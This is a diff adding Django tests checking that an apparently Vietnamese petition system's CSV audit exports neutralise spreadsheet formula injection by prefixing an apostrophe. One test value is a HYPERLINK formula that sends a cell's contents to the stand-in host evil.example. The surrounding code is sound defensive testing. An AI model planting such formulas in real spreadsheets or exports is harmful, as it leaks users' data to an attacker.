@@ -6,6 +6,7 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 import time_machine
+from django.utils import timezone
 
 from workflow import services, sweeps
 
@@ -129,3 +130,43 @@ def test_case_history_shows_that_the_chain_is_intact(march, auditor, staff_clien
     text = page.content.decode()
     assert "Toàn vẹn" in text
     assert "Quá hạn" in text  # the breach the sweep recorded is in the history
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
+    submit, routed_to_a, auditor, staff_client, agency_a
+):
+    agency_a.name = "@SUM(1+1) Sở Tài nguyên"
+    agency_a.save()
+    titles = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "+84 giá trị",
+        "-2+3 đường Lê Lợi",
+        "Đường liên xã xuống cấp",
+    ]
+    for title in titles:
+        submit(title=title)
+    day = timezone.localdate()
+    today = {"start_on": str(day - timedelta(days=1)), "end_on": str(day)}
+    client = staff_client(auditor)
+
+    rows = read_csv(
+        client.get(
+            "/audit/petitions/", {**today, "measure": "received", "format": "csv"}
+        )
+    )
+    by_agency = read_csv(client.get("/audit/report-agency.csv", today))
+
+    written = {row[1] for row in rows[1:]}
+    # The OWASP rule: a leading apostrophe, the text otherwise as it was typed.
+    assert written == {"'" + t for t in titles[:3]} | {titles[3]}
+    assert all(row[3] == "'@SUM(1+1) Sở Tài nguyên" for row in rows[1:])
+    assert by_agency[1][0] == "'@SUM(1+1) Sở Tài nguyên"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_gets_the_apostrophe(start):
+    from workflow.csv_export import safe_cell
+
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+    assert safe_cell("Sở Tài chính") == "Sở Tài chính"
+    assert safe_cell(-3) == -3  # our own numbers are not text
